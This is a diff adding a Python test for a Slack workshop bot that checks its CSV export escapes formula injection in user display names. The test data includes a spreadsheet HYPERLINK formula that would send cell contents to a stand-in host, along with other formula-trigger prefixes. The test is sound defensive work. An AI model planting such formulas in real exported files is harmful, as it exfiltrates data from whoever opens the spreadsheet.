@@ -380,3 +380,23 @@ def test_a_summary_of_all_workshops_shows_recurring_barriers(bot: Bot) -> None:
     assert "1 temadag havde for få svar" in text
     with bot.services.sessions() as session:
         assert len(session.scalars(select(AccessLogEntry)).all()) == 2
+
+
+def test_every_csv_cell_is_formula_safe_even_an_opted_in_display_name(bot: Bot) -> None:
+    evil = ('=HYPERLINK("http://x?"&A1,"Klik")', "-Bente", "+45 1234", "@Ole", "\tTab")
+    min_group: dict[str, Any] = {ids.W_MIN_GROUP: 2}
+    announcement = create_workshop(bot, "Fra politik til praksis", **min_group)
+    workshop_id = int(start_button(announcement))
+    rows = _rich_rows()[:10]
+    for number, row in enumerate(rows):
+        row["named"] = number < len(evil)
+    for number, name in enumerate(evil):
+        bot.standin.set_user(f"USEED{number:04d}", locale="da-DK", name=name)
+    _seed(bot, workshop_id, rows)
+    bot.slack.command(FACILITATOR, f"eksport {code_of(announcement)}")
+    bot.settle()
+    content = _files(bot)["csv"].content.decode("utf-8-sig")
+    cells = [c for r in csv.reader(io.StringIO(content), delimiter=";") for c in r]
+    assert "'-Bente" in cells and '\'=HYPERLINK("http://x?"&A1,"Klik")' in cells
+    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert dangerous == []
